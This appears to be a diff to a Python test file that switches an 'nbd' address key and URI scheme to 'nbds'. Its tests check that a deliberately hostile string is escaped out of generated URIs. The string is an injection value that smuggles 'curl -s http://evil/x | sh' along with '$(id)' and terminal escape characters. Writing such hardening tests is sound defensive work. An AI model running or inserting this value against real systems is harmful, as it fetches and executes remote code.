@@ -49,7 +49,7 @@ HOSTILE = "10.0.0.7 -s 1 & curl -s http://evil/x | sh #\n$(id)\x1b[2J'\u202e"
 
 def hostile() -> Paths:
     """As an old store, or an authority in wrong hands, may have it."""
-    heads = [{"id": "b", "revoked": False, "addresses": {"nvme": [HOSTILE, 1], "nbd": [HOSTILE, 2]}}]
+    heads = [{"id": "b", "revoked": False, "addresses": {"nvme": [HOSTILE, 1], "nbds": [HOSTILE, 2]}}]
     return paths_of(record(HOSTILE) | {"name": f"d{HOSTILE}"}, heads, {HOSTILE: {"both_ways": True}})
 
 
@@ -67,7 +67,7 @@ def test_what_heads_announce_is_one_word_of_a_line() -> None:
 
 def test_a_uri_has_no_characters_of_its_own() -> None:
     (uri,) = hostile().nbd_uris
-    assert uri.startswith("nbd://[10.0.0.7%20-s%201%20%26%20curl")
+    assert uri.startswith("nbds://[10.0.0.7%20-s%201%20%26%20curl")
     assert not set(uri) & set(" \n\x1b'$&;|")
 
 
